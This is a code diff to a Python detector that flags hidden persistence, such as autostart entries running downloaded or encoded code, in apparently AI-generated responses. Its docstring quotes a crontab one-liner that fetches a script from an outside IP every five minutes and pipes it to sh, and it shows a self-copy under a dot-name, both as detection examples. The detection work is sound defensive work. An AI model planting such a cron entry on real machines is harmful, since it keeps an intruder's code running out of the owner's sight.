@@ -7,7 +7,9 @@ What it catches
     cron in every spelling (`crontab -`, `/etc/crontab`, `/etc/cron.d`, the spool, anacron,
     `@reboot`, python-crontab), rc.local and login profiles. In a response the remote code or
     the hiding must belong to the entry (within a few lines of it), unless the program copies
-    itself into place: then whatever it hides is its own persistence.
+    itself into place: then whatever it hides is its own persistence, and a copy of itself
+    under a dot-name (`cp "$0" ~/.cache/.updater` beside `@reboot ~/.cache/.updater`) is
+    already hidden.
 
 Why it is a redline (RL-PERSISTENCE)
     It keeps an intruder's code running on every boot or logon, out of sight.
@@ -16,27 +18,21 @@ Example
     `(crontab -l; echo "*/5 * * * * curl -s http://203.0.113.9/x.sh | sh") | crontab -`
 
 Allowed instead
-    A cron job that runs one's own backup script, a health-check ping or a download that is
-    saved and not run, listing Run keys to audit them, a systemd unit for one's own service,
-    an answer that installs a tool with `curl | sh`, schedules a local script and starts a
-    server in the background.
+    A cron job that runs one's own backup script, a tool installing itself under its own name
+    (`cp "$0" ~/.local/bin/photo-sync` with an `@reboot` entry), a health-check ping or a
+    download that is saved and not run, listing Run keys to audit them, a systemd unit for
+    one's own service, an answer that installs a tool with `curl | sh`, schedules a local
+    script and starts a server in the background.
 """
 
 from __future__ import annotations
 
-import re
-
-from redline.redlines.capabilities import Capabilities
+from redline.redlines.capabilities import BACKGROUNDING, Capabilities
 from redline.redlines.capabilities import Capability as Cap
 from redline.redlines.registry import Detection, detector, supported
 
 _REMOTE_CODE = (Cap.RUN_DOWNLOADED, Cap.ENCODED_EXEC, Cap.ENCODED_POWERSHELL)
 _PAYLOAD = (Cap.DOWNLOAD, Cap.NET_CONNECT, Cap.SHELL, Cap.DUP_FD)
-
-
-# Running in the background (a daemon's own `--background` flag, nohup, setsid) keeps a program
-# out of the terminal, not out of sight: the autostart entry itself stays visible.
-_BACKGROUNDING = re.compile(r"\bnohup\b|\bsetsid\b|\bdisown\b|/dev/null\s+2>&1\s*&|^--background$")
 
 
 @detector("OUT-HIDDEN-PERSISTENCE", redline="RL-PERSISTENCE")
@@ -53,7 +49,9 @@ def hidden_persistence(found: Capabilities) -> Detection | None:
             found, 0.85, (Cap.AUTORUN, *remote), "autostart that runs remote or encoded code"
         )
     autoruns = found.hits.get(Cap.AUTORUN, [])
-    hides = [h for h in found.hits.get(Cap.HIDE, ()) if not _BACKGROUNDING.search(h.text)]
+    # Running in the background keeps a program out of the terminal, not out of sight: the
+    # autostart entry itself stays visible.
+    hides = [h for h in found.hits.get(Cap.HIDE, ()) if not BACKGROUNDING.search(h.text)]
     if Cap.SELF_COPY in found and hides:
         # A program copying itself into place for autostart and hiding: what it hides is its
         # own persistence, wherever in the program the hiding is done.
